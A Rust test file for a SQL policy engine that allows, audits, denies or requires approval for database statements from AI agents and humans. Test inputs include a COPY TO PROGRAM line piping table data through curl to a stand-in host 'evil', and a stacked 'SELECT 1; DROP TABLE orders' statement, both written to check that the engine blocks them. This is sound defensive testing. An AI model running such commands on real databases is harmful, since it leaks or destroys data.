//! Evaluation tests: precedence, defaults, identities, and the any/all rule semantics.

use std::path::PathBuf;
use std::time::{Duration, SystemTime, UNIX_EPOCH};

use super::*;

const POLICY: &str = r#"
defaults:
  unmatched: audit
identities:
  - name: claude
    kind: ai_agent
    groups: [ai-agents]
    owner: alice
    match: {application_name: "claude*"}
  - name: alice
    kind: human
    groups: [dba]
    match: {client_user: alice}
rules:
  - name: reads-are-fine
    match: {class: [read, transaction, session]}
    outcome: allow
  - name: ai-dangerous
    match: {kind: ai_agent, class: [export, privilege, ddl]}
    outcome:
      require_approval: {approvers: [dba], quorum: 2, timeout: 10m, reason_required: true}
    unmediated: terminate
  - name: ai-unbounded-dml
    match: {kind: ai_agent, command: [UPDATE, DELETE], has_where: false}
    outcome:
      require_approval: {approvers: [dba]}
  - name: no-program
    match: {command: [COPY TO PROGRAM, COPY FROM PROGRAM]}
    outcome: {deny: {message: "COPY PROGRAM runs shell commands"}}
  - name: humans-audited
    match: {kind: human}
    outcome: audit
  - name: scratch-deletes
    match: {kind: ai_agent, class: [delete, read], table: "scratch.*"}
    outcome: allow
  - name: payroll-locked
    match: {table: "payroll.*", kind: ai_agent}
    outcome: {deny: {message: "no AI access to payroll"}}
  - name: night-ddl
    match: {class: ddl, time: {between: "22:00-06:00"}}
    outcome: {deny: {message: "no DDL at night"}}
"#;

fn policy() -> PolicySet {
    PolicySet::from_sources(&[(PathBuf::from("p.yaml"), POLICY.to_string())]).expect("valid policy")
}

fn monday_at(hour: u64) -> SystemTime {
    // 2026-01-05 00:00 UTC, a Monday.
    UNIX_EPOCH + Duration::from_secs(1_767_571_200 + hour * 3600)
}

#[test]
fn most_restrictive_matching_rule_decides() {
    let p = policy();
    let ai = Facts::from_pairs(&[("application_name", "claude-code")]).expect("facts");
    let human = Facts::from_pairs(&[("client_user", "alice")]).expect("facts");
    let cases: [(&Facts, &str, &str, Option<&str>); 14] = [
        (
            &ai,
            "SELECT * FROM orders WHERE id = 1",
            "allow",
            Some("reads-are-fine"),
        ),
        (
            &ai,
            "GRANT ALL ON orders TO mallory",
            "require_approval",
            Some("ai-dangerous"),
        ),
        (
            &ai,
            "DELETE FROM orders",
            "require_approval",
            Some("ai-unbounded-dml"),
        ),
        (&ai, "DELETE FROM orders WHERE id = 1", "audit", None),
        (
            &ai,
            "COPY orders TO PROGRAM 'curl -d @- evil'",
            "deny",
            Some("no-program"),
        ),
        (
            &human,
            "COPY orders TO PROGRAM 'x'",
            "deny",
            Some("no-program"),
        ),
        (&human, "DROP TABLE orders", "audit", Some("humans-audited")),
        (&human, "SELECT 1", "audit", Some("humans-audited")),
        (
            &ai,
            "SELECT 1; DROP TABLE orders",
            "require_approval",
            Some("ai-dangerous"),
        ),
        (
            &ai,
            "DELETE FROM scratch.tmp WHERE a = 1",
            "allow",
            Some("scratch-deletes"),
        ),
        (
            &ai,
            "DELETE FROM scratch.tmp",
            "require_approval",
            Some("ai-unbounded-dml"),
        ),
        (
            &ai,
            "DELETE FROM scratch.tmp WHERE id IN (SELECT id FROM orders)",
            "audit",
            None,
        ),
        (
            &ai,
            "SELECT * FROM payroll.salaries",
            "deny",
            Some("payroll-locked"),
        ),
        (
            &ai,
            "SELECT * FROM orders JOIN payroll.salaries USING (id)",
            "deny",
            Some("payroll-locked"),
        ),
    ];
    for (facts, sql, outcome, rule) in cases {
        let d = p.evaluate(facts, sql, monday_at(12));
        assert_eq!(
            (d.outcome.name(), d.rule.as_deref()),
            (outcome, rule),
            "{sql}: {:#?}",
            d.explanation
        );
    }
}

#[test]
fn permissive_rules_must_cover_everything_touched() {
    let p = policy();
    let ai = Facts::from_pairs(&[("application_name", "claude-code")]).expect("facts");
    // scratch-deletes (allow) does not cover `orders`, so it must not match.
    let d = p.evaluate(
        &ai,
        "DELETE FROM scratch.tmp USING orders WHERE tmp.id = orders.id",
        monday_at(12),
    );
    let trace = d
        .explanation
        .iter()
        .find(|t| &*t.rule == "scratch-deletes")
        .expect("trace");
    assert_eq!(trace.failed, Some(Condition::Table));
    assert_eq!(d.outcome.name(), "audit");
}

#[test]
fn approval_outcome_carries_its_settings() {
    let p = policy();
    let ai = Facts::from_pairs(&[("application_name", "claude-code")]).expect("facts");
    let d = p.evaluate(&ai, "CREATE TABLE t (id int)", monday_at(12));
    assert_eq!(
        d.outcome,
        Outcome::RequireApproval {
            approvers: vec!["dba".to_string()],
            quorum: 2,
            timeout: Duration::from_secs(600),
            reason_required: true,
            break_glass_group: None,
        }
    );
    assert_eq!(d.unmediated, Unmediated::Terminate);
    assert_eq!(d.principal.owner.as_deref(), Some("alice"));
}

#[test]
fn time_windows_limit_rules() {
    let p = policy();
    let human = Facts::from_pairs(&[("client_user", "alice")]).expect("facts");
    assert_eq!(
        p.evaluate(&human, "DROP TABLE t", monday_at(23))
            .outcome
            .name(),
        "deny"
    );
    assert_eq!(
        p.evaluate(&human, "DROP TABLE t", monday_at(12))
            .outcome
            .name(),
        "audit"
    );
}

#[test]
fn unidentified_sessions_get_the_strict_default_principal() {
    let p = policy();
    let d = p.evaluate(&Facts::default(), "GRANT ALL ON t TO x", monday_at(12));
    assert_eq!(d.principal.name, "unidentified");
    assert_eq!(d.principal.kind, Kind::AiAgent);
    assert_eq!(d.outcome.name(), "require_approval");
}

#[test]
fn unparseable_statements_are_never_silently_allowed() {
    let p = policy();
    let ai = Facts::from_pairs(&[("application_name", "claude-code")]).expect("facts");
    let d = p.evaluate(&ai, "SELEC * FROM orders", monday_at(12));
    assert_eq!(d.classification.class, Class::Unknown);
    // Unknown matches every restrictive class condition: the strictest AI rule applies.
    assert_eq!(d.outcome.name(), "require_approval");
    assert_eq!(d.rule.as_deref(), Some("ai-dangerous"));

    let allow_all = "rules:\n  - name: everything\n    outcome: allow\n";
    let p = PolicySet::from_sources(&[(PathBuf::from("a.yaml"), allow_all.to_string())])
        .expect("valid");
    let d = p.evaluate(&Facts::default(), "SELEC * FROM orders", monday_at(12));
    assert_eq!(d.outcome, Outcome::Audit);
    assert_eq!(d.notes.len(), 1);
}

#[test]
fn on_parse_error_setting_maps_unparseable_statements_to_a_class() {
    let yaml = "defaults:\n  on_parse_error: read\nrules:\n  - name: reads\n    match: {class: read}\n    outcome: allow\n";
    let p = PolicySet::from_sources(&[(PathBuf::from("a.yaml"), yaml.to_string())]).expect("valid");
    let d = p.evaluate(&Facts::default(), "SELEC 1", monday_at(12));
    assert_eq!(
        (d.outcome.name(), d.rule.as_deref()),
        ("allow", Some("reads"))
    );
}

#[test]
fn unmatched_default_applies_when_no_rule_matches() {
    let yaml = "defaults:\n  unmatched: {deny: {message: not in policy}}\nrules:\n  - name: reads\n    match: {class: read}\n    outcome: allow\n";
    let p = PolicySet::from_sources(&[(PathBuf::from("a.yaml"), yaml.to_string())]).expect("valid");
    let d = p.evaluate(&Facts::default(), "INSERT INTO t VALUES (1)", monday_at(12));
    assert_eq!(
        d.outcome,
        Outcome::Deny {
            message: "not in policy".to_string()
        }
    );
    assert_eq!(d.rule, None);
    assert_eq!(d.unmediated, Unmediated::Terminate);
}
